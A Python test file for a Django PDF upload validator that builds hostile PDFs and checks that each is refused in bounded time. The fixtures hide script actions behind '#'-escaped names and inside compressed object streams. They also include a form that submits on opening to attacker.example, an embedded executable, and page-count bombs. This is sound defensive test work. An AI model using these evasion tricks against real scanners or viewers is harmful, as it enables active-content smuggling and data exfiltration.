"""Hostile PDFs cost little and get nowhere (SPEC §13; consortium.intake.pdf_check): a
corpus the tests build themselves — scripts wherever PDF allows them, names written with
``#`` escapes, a script inside a compressed object stream, a form that submits, tens of
thousands of empty pages, a page count that lies — each refused with the form's message,
each judged in a time bounded as a ratio to a normal document's check."""

import io
import time
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from consortium.intake.pdf_check import Verdict, judge
from consortium.intake.uploads import validate_pdf
from tests.fixtures.files import pdf_written

# -- builders -------------------------------------------------------------------------------


def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF written byte by byte: ``objects`` by number, a classic cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
    size = max(objects) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(
            b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        )
    out.write(b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref))
    return out.getvalue()


def pages(count: int, *, declared: int | None = None, page_type: bytes = b"/Page") -> bytes:
    """``count`` empty pages; the page tree says ``declared`` (the truth by default), the
    pages' type written ``page_type``."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    told = count if declared is None else declared
    objects[2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, told)
    for n in range(count):
        objects[3 + n] = b"<</Type%s/Parent 2 0 R/MediaBox[0 0 612 792]>>" % page_type
    return raw_pdf(objects)


def in_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 whose opening action (object 4) is inside a compressed object stream,
    found through a cross-reference stream: nothing of it shows in the file's bytes."""
    header = b"4 0 "
    stream = zlib.compress(header + hidden)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets = {}
    plain = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
    }
    for number, body in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[5] = out.tell()
    out.write(
        b"5 0 obj\n<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (len(header), len(stream))
    )
    out.write(stream + b"\nendstream\nendobj\n")
    offsets[6] = out.tell()
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]  # object 0: free
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3)]
    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # 4: in stream 5, index 0
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (5, 6)]
    table = b"".join(rows)
    out.write(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    )
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
    return out.getvalue()


# A script action, its names written with ``#`` escapes: nothing in the bytes reads
# « JavaScript » or « JS », as a viewer decodes them.
SCRIPT = b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"


def hostile(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> bytes:
    """One page, with ``catalog`` and ``page`` entries, and objects 4, 5, … (``o4=…``)."""
    objects = {1: CATALOG % catalog, 2: TREE, 3: PAGE % page}
    objects.update({int(name[1:]): body for name, body in more.items()})
    return raw_pdf(objects)


HOSTILE = {
    "script in an annotation's additional actions": lambda: hostile(
        page=b"/Annots[4 0 R]",
        o4=b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/AA<</D 5 0 R>>>>",
        o5=SCRIPT,
    ),
    "script in an outline item": lambda: hostile(
        catalog=b"/Outlines 4 0 R",
        o4=b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
        o5=b"<</Title(Sommaire)/Parent 4 0 R/A 6 0 R>>",
        o6=SCRIPT,
    ),
    "script as a form field's calculation": lambda: hostile(
        catalog=b"/AcroForm<</Fields[4 0 R]>>",
        o4=b"<</FT/Tx/T(total)/AA<</C 5 0 R>>>>",
        o5=SCRIPT,
    ),
    "a form that submits on opening": lambda: hostile(
        catalog=b"/OpenAction 4 0 R", o4=b"<</S/SubmitForm/F(https://attacker.example/c)>>"
    ),
    "an escaped script name on opening (/J#61vaScript)": lambda: hostile(
        catalog=b"/OpenAction 4 0 R", o4=SCRIPT
    ),
    "a script inside a compressed object stream": lambda: in_object_stream(
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    ),
    "an embedded file": lambda: pdf_written(lambda writer: writer.add_attachment("x.exe", b"MZ")),
}
MESSAGES = {
    Verdict.ACTIVE: "contient un script ou des fichiers intégrés",
    Verdict.TOO_MANY_PAGES: "compte plus de 500 pages",
    Verdict.TOO_COSTLY: "n’a pas pu être vérifié",
}


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("document.pdf", content, content_type="application/pdf")


def refused_with(content: bytes, verdict: Verdict) -> None:
    assert judge(content) is verdict
    with translation.override("fr"), pytest.raises(ValidationError) as error:
        validate_pdf(upload(content))
    assert MESSAGES[verdict] in error.value.messages[0]
    assert "« document.pdf »" in error.value.messages[0]


# -- the corpus -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_active_content_is_refused_wherever_it_hides(name):
    refused_with(HOSTILE[name](), Verdict.ACTIVE)


def test_the_hidden_script_is_not_in_the_file_bytes():
    """The object-stream case really hides it: only reading the structure finds it."""
    content = HOSTILE["a script inside a compressed object stream"]()
    assert b"JavaScript" not in content and b"/JS" not in content


def test_many_pages_are_refused_before_the_document_is_walked():
    refused_with(pages(100_000), Verdict.TOO_MANY_PAGES)
    refused_with(pages(501), Verdict.TOO_MANY_PAGES)
    assert judge(pages(500)) is Verdict.SAFE


def test_a_page_count_that_lies_is_caught_by_the_walk():
    """The tree says one page and holds 2,000, their type written with an escape
    (``/P#61ge``) so that the scan of the bytes does not see them: the walk counts the
    pages it meets."""
    content = pages(2_000, declared=1, page_type=b"/P#61ge")
    assert b"/Type/Page/" not in content
    assert judge(content) is Verdict.TOO_MANY_PAGES


def test_a_file_that_does_not_end_as_a_pdf_is_not_read():
    refused_with(b"%PDF-1.4\n" + b"0" * 1_000_000, Verdict.TOO_COSTLY)


def test_a_document_that_takes_too_long_is_refused():
    """A budget of no time at all: the walk stops at its first look at the clock."""
    assert judge(pages(300), seconds=0) is Verdict.TOO_COSTLY
    assert judge(pages(300)) is Verdict.SAFE


def test_genuine_documents_pass():
    for content in (
        pdf_written(lambda writer: None),
        pages(20),
        pages(500),
        pdf_written(lambda writer: writer.add_metadata({"/Title": "Statuts"})),
    ):
        assert judge(content) is Verdict.SAFE
        validate_pdf(upload(content))


# -- cost, as a ratio to a normal document's check --------------------------------------------


def fastest(content: bytes, runs: int = 3) -> float:
    best = float("inf")
    for _ in range(runs):
        start = time.perf_counter()
        judge(content)
        best = min(best, time.perf_counter() - start)
    return best


def test_no_hostile_document_costs_more_than_the_largest_genuine_one():
    """Against the check of the largest document accepted (500 pages), in the same run:
    every hostile one within twice its time (most cost what a one-page document does; the
    100,000 pages, 10 MB, are refused before the document is read; a count that lies costs
    the walk of the page budget). Minimum of three runs each, the machine's noise aside."""
    largest = fastest(pages(500))
    corpus = {name: build() for name, build in HOSTILE.items()}
    corpus["100,000 empty pages"] = pages(100_000)
    corpus["2,000 pages said to be one"] = pages(2_000, declared=1, page_type=b"/P#61ge")
    ratios = {name: round(fastest(content) / largest, 3) for name, content in corpus.items()}
    assert max(ratios.values()) < 2, ratios
